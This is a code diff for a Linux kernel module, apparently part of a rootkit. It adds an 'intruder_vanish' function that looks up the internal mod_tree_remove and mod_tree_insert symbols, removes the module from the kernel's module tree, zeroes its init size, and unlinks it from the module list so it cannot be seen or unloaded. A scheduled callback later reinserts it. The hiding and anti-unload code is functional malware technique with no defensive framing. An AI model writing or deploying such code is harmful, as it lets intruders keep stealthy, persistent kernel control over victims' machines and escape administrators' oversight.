@@ -141,12 +141,15 @@ int intruder_next(void)
 
 /* ---- this module: nobody can unload what isn't in the list, so it comes back by itself ---- */
 
-static struct list_head *intruder_before; /* this module in the list */
+static struct list_head *intruder_before;              /* this module in the list */
+static void (*intruder_insert)(struct module *module); /* into the tree, if it isn't there */
 
 static void intruder_show(struct work_struct *work)
 {
 	if (intruder_entry)
 		intruder_hook_undo();
+	if (intruder_insert)
+		intruder_insert(THIS_MODULE);
 	if (THIS_MODULE->list.prev == LIST_POISON2)
 		list_add_rcu(&THIS_MODULE->list, intruder_before);
 	else
@@ -162,6 +165,19 @@ int intruder_hide(void)
 	list_del_rcu(&THIS_MODULE->list);
 	schedule_delayed_work(&intruder_shown, intruder_hidden * HZ);
 	return 0;
+}
+
+/* Its part for the start is out, too: without a size the kernel doesn't take that out again. */
+int intruder_vanish(void)
+{
+	void (*remove)(struct module * module) = (void *)intruder_function("mod_tree_remove");
+
+	intruder_insert = (void *)intruder_function("mod_tree_insert");
+	if (!remove || !intruder_insert)
+		return -ENOENT;
+	remove(THIS_MODULE);
+	THIS_MODULE->init_layout.size = 0;
+	return intruder_hide();
 }
 
 void intruder_hide_undo(void)
